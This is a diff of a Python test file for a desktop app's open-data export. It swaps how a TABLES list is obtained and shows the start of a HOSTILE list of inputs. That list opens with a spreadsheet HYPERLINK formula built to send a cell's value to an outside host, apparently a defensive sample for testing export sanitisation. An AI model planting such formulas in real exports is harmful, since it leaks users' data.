@@ -26,13 +26,11 @@ from cocrea_desktop.core import text as text_mod
 from cocrea_desktop.core.errors import InvalidInput
 from cocrea_desktop.core.voting.payload import format_serial
 from cocrea_desktop.export import opendata
-from cocrea_desktop.export.opendata import all_tables, export_open_data
+from cocrea_desktop.export.opendata import TABLES, export_open_data
 from cocrea_desktop.export.pdf.session_reports import write_session_report
 from tests.export.evidence_fixture import make_process
 
 ROOT = Path(__file__).resolve().parents[2]
-#: Every open-data table: the core's and the methods' own.
-TABLES = all_tables()
 
 HOSTILE = [
     "=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")",
